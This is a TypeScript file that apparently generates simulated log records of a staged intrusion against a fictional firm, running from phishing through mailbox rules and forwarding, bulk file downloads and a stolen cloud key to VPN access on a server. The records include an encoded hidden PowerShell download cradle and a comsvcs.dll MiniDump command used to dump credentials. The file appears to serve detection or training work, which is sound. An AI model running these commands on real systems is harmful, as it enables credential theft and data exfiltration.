// The intrusion: from a mail to the data, over all five domains, in a little more than an hour.
import { at, type TimedRecord } from './moment.ts';
import { DANA, DROP_ADDRESS, INTRUDER_ADDRESS, INTRUDER_CLOUD_ADDRESS, OFFICE_ADDRESS } from './northwind.ts';
import { click, cloudTrail, exchange, fortiGate, iamUser, mail, networkLogon, processCreated, roleSession, sharePoint, signIn } from './records.ts';

const LINK = 'https://login.northwlnd-portal.example/office/88213';
const SCRIPT = 'python-requests/2.32.3';
const SESSION_KEY = 'ASIAXNWEXAMPLE0000S1';
const STOLEN_KEY = 'AKIAXNWEXAMPLE0000K1';
const SERVER = 'NW-FS-01';
const SERVER_ADDRESS = '10.20.0.30';
const VPN_ADDRESS = '10.20.60.12';

export function story(): readonly TimedRecord[] {
  return [...phishing(), ...stolenSession(), ...bulkDownload(), ...cloudKey(), ...intoTheNetwork(), ...onTheServer()];
}

function phishing(): TimedRecord[] {
  return [
    ...mail(at(30), { from: 'accounts@northwlnd-billing.example', to: DANA, subject: 'Overdue invoice 88213: action needed today', senderAddress: INTRUDER_ADDRESS, verdict: 'fail', urls: [LINK] }),
    click(at(33, 20), DANA, LINK, OFFICE_ADDRESS),
  ];
}

function stolenSession(): TimedRecord[] {
  const rule = [
    { Name: 'Name', Value: '.' }, { Name: 'SubjectOrBodyContainsWords', Value: 'invoice;payment;bank;88213' }, { Name: 'MoveToFolder', Value: 'RSS Subscriptions' },
    { Name: 'MarkAsRead', Value: 'True' }, { Name: 'StopProcessingRules', Value: 'True' },
  ];
  const forwarding = [{ Name: 'Identity', Value: DANA.account }, { Name: 'ForwardingSmtpAddress', Value: 'smtp:dana.reyes.archive@mailbox.example' }, { Name: 'DeliverToMailboxAndForward', Value: 'True' }];
  return [
    signIn(at(35, 5), { person: DANA, address: INTRUDER_ADDRESS, country: 'MD', city: 'Chisinau', app: 'OfficeHome', risk: 'medium', userAgent: 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0' }),
    exchange(at(37, 40), { person: DANA, operation: 'New-InboxRule', address: INTRUDER_ADDRESS, more: { ObjectId: 'northwind\\dana.reyes\\.', Parameters: rule } }),
    exchange(at(38, 55), { person: DANA, operation: 'Set-Mailbox', address: INTRUDER_ADDRESS, more: { ObjectId: 'northwind\\dana.reyes', Parameters: forwarding } }),
  ];
}

function bulkDownload(): TimedRecord[] {
  return Array.from({ length: 180 }, (_, i) => {
    const file = `${['contract', 'invoice', 'statement', 'payroll'][i % 4]}-${2023 + (i % 4)}-${String(1 + (i % 12)).padStart(2, '0')}-${i}.xlsx`;
    return sharePoint(at(43, i * 2.5), {
      person: DANA, operation: 'FileDownloaded', address: INTRUDER_ADDRESS,
      more: { UserAgent: SCRIPT, SourceFileName: file, SourceFileExtension: 'xlsx', SourceRelativeUrl: 'Shared Documents/Payments', ObjectId: `https://northwind.sharepoint.example/sites/finance/Shared Documents/Payments/${file}` },
    });
  });
}

function cloudKey(): TimedRecord[] {
  const session = roleSession(DANA, 'FinanceReports', SESSION_KEY);
  const key = iamUser('svc-reports', STOLEN_KEY);
  const cli = 'aws-cli/2.27.50 md/awscrt#0.27.2 ua/2.1 os/linux#6.1.0 md/arch#x86_64 lang/python#3.12.9';
  const reads = Array.from({ length: 40 }, (_, i) => cloudTrail(at(62, i * 3), {
    identity: key, service: 's3', name: 'GetObject', address: INTRUDER_CLOUD_ADDRESS, userAgent: cli, readOnly: true, parameters: { bucketName: 'northwind-finance-exports', key: `ledger/2026/export-${i}.parquet` },
  }));
  return [
    cloudTrail(at(54, 10), {
      identity: session, service: 'iam', name: 'CreateAccessKey', address: INTRUDER_ADDRESS, userAgent: SCRIPT, parameters: { userName: 'svc-reports' },
      answer: { accessKey: { accessKeyId: STOLEN_KEY, status: 'Active', userName: 'svc-reports', createDate: 'Nov 20, 2026, 9:54:10 AM' } },
    }),
    cloudTrail(at(59, 30), { identity: key, service: 'sts', name: 'GetCallerIdentity', address: INTRUDER_CLOUD_ADDRESS, userAgent: cli, readOnly: true }),
    cloudTrail(at(60, 15), { identity: key, service: 's3', name: 'ListBuckets', address: INTRUDER_CLOUD_ADDRESS, userAgent: cli, readOnly: true, parameters: { Host: 's3.eu-central-1.amazonaws.com' } }),
    ...reads,
  ];
}

function intoTheNetwork(): TimedRecord[] {
  return [
    fortiGate(at(68, 10), {
      logid: '0101039947', type: 'event', subtype: 'vpn', level: 'information', logdesc: 'SSL VPN tunnel up', action: 'tunnel-up', tunneltype: 'ssl-tunnel', tunnelid: 815233012,
      remip: INTRUDER_ADDRESS, tunnelip: VPN_ADDRESS, user: DANA.account, group: 'vpn-users', dst_host: 'N/A', reason: 'tunnel established', msg: 'SSL tunnel established',
    }),
    networkLogon(at(71, 30), SERVER, DANA, VPN_ADDRESS),
  ];
}

function onTheServer(): TimedRecord[] {
  const powershell = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
  const encoded = 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA';
  return [
    processCreated(at(73, 5), { host: SERVER, person: DANA, pid: 6120, parentPid: 3344, image: powershell, commandLine: encoded, parentImage: 'C:\\Windows\\System32\\wsmprovhost.exe', parentCommandLine: 'wsmprovhost.exe -Embedding', integrity: 'High' }),
    processCreated(at(75, 40), {
      host: SERVER, person: DANA, pid: 6188, parentPid: 6120, image: 'C:\\Windows\\System32\\rundll32.exe',
      commandLine: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\ProgramData\\l.dmp full', parentImage: powershell, parentCommandLine: encoded, integrity: 'High',
    }),
    fortiGate(at(82, 15), {
      logid: '0000000013', type: 'traffic', subtype: 'forward', level: 'notice', srcip: SERVER_ADDRESS, srcname: SERVER, srcport: 50388, srcintf: 'servers', dstip: DROP_ADDRESS, dstport: 8443, dstintf: 'wan1',
      policyid: 12, sessionid: 44120331, proto: 6, action: 'close', service: 'tcp/8443', duration: 410, sentbyte: 512_400_112, rcvdbyte: 1_204_331, sentpkt: 391_220, rcvdpkt: 101_220,
    }),
  ];
}
